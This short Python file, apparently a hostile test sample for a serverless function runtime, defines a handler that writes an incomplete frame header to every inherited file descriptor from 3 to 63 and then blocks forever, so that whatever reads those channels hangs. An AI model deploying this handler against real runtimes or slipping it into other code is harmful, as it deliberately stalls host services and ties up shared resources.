"""Begins a frame and never ends it, so that whoever reads it waits for ever."""

import os
import struct
import threading


def handler(event, context):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!II", 100, 0) + b"{")
        except OSError:
            pass
    threading.Event().wait()
